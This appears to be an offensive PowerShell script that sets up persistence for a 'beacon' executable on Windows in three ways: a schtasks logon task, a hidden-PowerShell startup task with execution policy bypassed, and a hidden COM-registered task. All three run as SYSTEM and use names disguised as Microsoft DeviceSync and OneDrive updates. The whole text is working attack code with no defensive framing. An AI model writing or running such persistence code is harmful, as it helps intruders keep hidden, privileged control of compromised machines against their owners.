# persistence that survives reboots, three ways
$beacon = 'C:\ProgramData\Microsoft\DeviceSync\dsync.exe'

schtasks.exe /create /tn "Microsoft\Windows\DeviceSync\Sync" /tr $beacon /sc onlogon /ru SYSTEM /f

$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\DeviceSync\s.ps1'
$trigger = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'DeviceSyncHealth' -Action $action -Trigger $trigger -User 'NT AUTHORITY\SYSTEM' -Force | Out-Null

$svc = New-Object -ComObject Schedule.Service
$svc.Connect()
$def = $svc.NewTask(0)
$def.Settings.Hidden = $true
$exec = $def.Actions.Create(0)
$exec.Path = $beacon
$logon = $def.Triggers.Create(9)
$logon.Enabled = $true
$null = $svc.GetFolder('\').RegisterTaskDefinition('OneDrive Standalone Update', $def, 6, 'SYSTEM', $null, 5)
